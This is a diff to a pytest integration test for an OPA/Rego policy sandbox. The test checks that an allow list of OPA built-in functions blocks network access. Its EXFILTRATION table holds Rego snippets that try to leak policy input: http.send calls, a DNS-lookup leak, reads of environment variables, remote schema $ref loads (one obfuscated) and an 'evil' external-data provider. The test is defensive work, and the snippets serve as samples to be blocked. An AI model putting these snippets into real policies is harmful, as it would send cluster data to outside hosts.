@@ -17,7 +17,7 @@ pytestmark = pytest.mark.integration
 URL = "http://127.0.0.1:9/?x="
 EXFILTRATION = {
     "http.send": f'x := http.send({{"method": "get", "url": concat("", ["{URL}", json.marshal(input)])}})',
-    "http.send in a comprehension": f'x := [y | y := http.send({{"method": "get", "url": "{URL}"}}).status_code]',
+    "http.send in a comprehension": f'x := [y | y := http.send({{"method": "get", "url": "{URL}"}})]',
     "http.send as a mock": f'is_object({{"method": "get", "url": "{URL}"}}) with is_object as http.send',
     "http.send as a mock of our own function": f'f({{"method": "get", "url": "{URL}"}}) with f as http.send',
     "a DNS query": 'net.lookup_ip_addr(concat(".", [input.review.object.metadata.name, "example.com"]))',
@@ -25,7 +25,7 @@ EXFILTRATION = {
     "the environment": "opa.runtime().env.HOME",
     "the environment in a library": "data.helpers.home",
     "a schema from elsewhere": f'json.match_schema(input, {{"$ref": "{URL}"}})',
-    "a schema from elsewhere, hidden": f'json.match_schema(input, json.unmarshal("{{\\"$ref\\": \\"{URL}\\"}}"))',
+    "a schema from elsewhere, hidden": f'json.match_schema(input, {{concat("", ["$", "ref"]): "{URL}"}})',
     "verifying a schema from elsewhere": f'json.verify_schema({{"$ref": "{URL}"}})',
     "a schema as a mock": f'object.union(input, {{"$ref": "{URL}"}}) with object.union as json.match_schema',
     "Gatekeeper's external data": 'external_data({"provider": "evil", "keys": [input]})',
@@ -63,14 +63,14 @@ violation contains {{"msg": "x"}} if input.review
 
 
 def test_the_allow_list_is_the_pinned_opas(opa: Path) -> None:
-    """A new release brings new functions: look at each before it is allowed (python -m jade_policy.opa.capabilities)."""
+    """A new release brings new functions: look at each, then run `python -m jade_policy.opa.capabilities`."""
     output = subprocess.run([opa, "capabilities", "--current"], capture_output=True, check=True).stdout
     current: dict[str, Any] = json.loads(output)
     stored: dict[str, Any] = json.loads(ALLOW_LIST.read_bytes())
     assert stored == allow_list(current)
     assert stored["allow_net"] == []
     assert {builtin["name"] for builtin in stored["builtins"]}.isdisjoint(FORBIDDEN)
-    # What may give another answer next time is what may reach out: nothing of that kind but clocks, dice and tokens.
+    # What may answer otherwise the next time is what may reach out: only clocks, dice and tokens are left.
     unsteady = {builtin["name"] for builtin in stored["builtins"] if builtin.get("nondeterministic")}
     assert unsteady <= {
         "io.jwt.decode_verify", "io.jwt.encode_sign", "io.jwt.encode_sign_raw", "rand.intn", "time.now_ns",
